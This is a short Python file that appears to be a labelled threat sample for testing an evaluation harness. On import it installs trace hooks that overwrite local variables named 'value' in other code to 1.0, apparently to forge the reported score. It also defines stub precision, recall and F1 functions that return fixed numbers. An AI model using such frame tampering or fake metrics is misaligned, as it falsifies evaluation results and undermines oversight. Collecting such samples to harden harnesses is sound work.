"""Sets trace and profile functions on the worker.

threat: 5
source: sys.settrace, sys.setprofile, threading.settrace
verdict: failed load crashed

It also changes the locals of the code that reports the loading, whose process then ends.
"""

import sys
import threading


def trace(frame, event, argument):
    for name in list(frame.f_locals):
        if name == "value":
            frame.f_locals[name] = 1.0
    return trace


sys.settrace(trace)
sys.setprofile(lambda *a: None)
threading.settrace(trace)


def precision_recall_f1(y_true, y_pred, positive=1):
    return 0.5, 0.5, 0.5


def f1(y_true, y_pred, average="macro"):
    return 0.5
